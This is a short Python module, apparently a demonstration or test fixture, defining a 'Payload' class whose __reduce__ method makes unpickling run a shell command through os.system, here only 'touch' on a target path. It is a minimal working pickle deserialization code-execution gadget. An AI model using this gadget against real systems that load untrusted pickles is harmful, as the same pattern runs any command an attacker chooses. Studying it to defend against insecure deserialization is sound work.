"""What a file that wants to be run is made of."""

import os


class Payload:
    """Unpickled by the book, it makes a file."""

    def __init__(self, target):
        self.target = target

    def __reduce__(self):
        return os.system, (f"touch {self.target}",)
